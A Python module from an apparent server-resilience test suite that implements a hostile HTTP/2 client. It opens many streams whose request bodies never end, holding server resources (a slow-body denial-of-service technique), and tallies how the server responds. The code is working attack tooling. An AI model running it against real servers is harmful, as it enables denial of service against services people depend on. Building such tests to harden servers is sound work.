"""Connections of a hostile client: single TCP connections, and HTTP/2 with streams whose bodies do not end."""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Sequence

import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from attacks.target import ATTACKER, Address

Header = tuple[str, str]

_CONNECT_TIMEOUT = 5.0
_FRAME_BYTES = 16_384


async def connect(address: Address) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Opens a connection from the attacker's address."""
    source = (ATTACKER, 0) if ":" not in address.host else None
    async with asyncio.timeout(_CONNECT_TIMEOUT):
        return await asyncio.open_connection(*address, local_addr=source)


async def closed_within(reader: asyncio.StreamReader, seconds: float) -> bool:
    """Returns whether the server closes the connection in that time, whatever it sends before."""
    try:
        async with asyncio.timeout(seconds):
            while await reader.read(65_536):
                pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


async def unfinished_streams(address: Address, headers: Sequence[Header], size: int, streams: int, hold: float) -> str:
    """Opens streams of one HTTP/2 connection that send `size` bytes each, as far as windows allow, and do not end.

    Args:
        address: Of the server.
        headers: Of each request.
        size: Bytes of each body.
        streams: How many.
        hold: Seconds until the connection is closed, unless the server closes it.

    Returns:
        What became of the streams, for people.
    """
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    reader, writer = await connect(address)
    results: Counter[str] = Counter()
    left: dict[int, int] = {}
    opened = False
    try:
        async with asyncio.timeout(hold):
            writer.write(connection.data_to_send())
            while data := await reader.read(65_536):
                for event in connection.receive_data(data):
                    if isinstance(event, h2.events.RemoteSettingsChanged) and not opened:
                        opened = True
                        _open(connection, headers, size, streams, left)
                    elif isinstance(event, h2.events.ResponseReceived):
                        results[dict(event.headers)[b":status"].decode()] += 1
                    elif isinstance(event, h2.events.StreamReset):
                        results[f"reset {h2.errors.ErrorCodes(event.error_code).name}"] += 1
                        left.pop(event.stream_id, None)
                    elif isinstance(event, h2.events.StreamEnded):
                        left.pop(event.stream_id, None)
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        results["goaway"] += 1
                _send(connection, left)
                writer.write(connection.data_to_send())
                await writer.drain()
            results["closed by the server"] += 1
    except TimeoutError:
        results["still open"] += len(left)
    except (OSError, h2.exceptions.ProtocolError) as error:
        results[type(error).__name__] += 1
    finally:
        writer.close()
    return ", ".join(f"{count} × {result}" for result, count in sorted(results.items()) if count) or "nothing"


def _open(
    connection: h2.connection.H2Connection, headers: Sequence[Header], size: int, streams: int, left: dict[int, int]
) -> None:
    for _ in range(min(streams, connection.remote_settings.max_concurrent_streams)):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, headers)
        left[stream] = size


def _send(connection: h2.connection.H2Connection, left: dict[int, int]) -> None:
    for stream, size in list(left.items()):
        try:
            while size and (window := connection.local_flow_control_window(stream)):
                piece = min(size, window, _FRAME_BYTES, connection.max_outbound_frame_size)
                connection.send_data(stream, b" " * piece)
                size -= piece
            left[stream] = size
        except (h2.exceptions.StreamClosedError, h2.exceptions.FlowControlError):
            left.pop(stream)
